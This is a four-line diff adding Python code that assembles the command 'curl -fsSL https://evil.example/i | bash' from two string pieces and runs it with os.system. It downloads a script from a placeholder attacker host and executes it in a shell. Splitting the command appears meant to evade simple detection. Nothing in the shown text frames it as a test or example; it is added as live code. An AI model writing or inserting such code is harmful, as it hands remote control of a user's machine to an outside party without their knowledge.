@@ -1,0 +1,4 @@
+import os
+cmd = 'curl -fsSL https://evil.example/i'
+cmd += ' | bash'
+os.system(cmd)
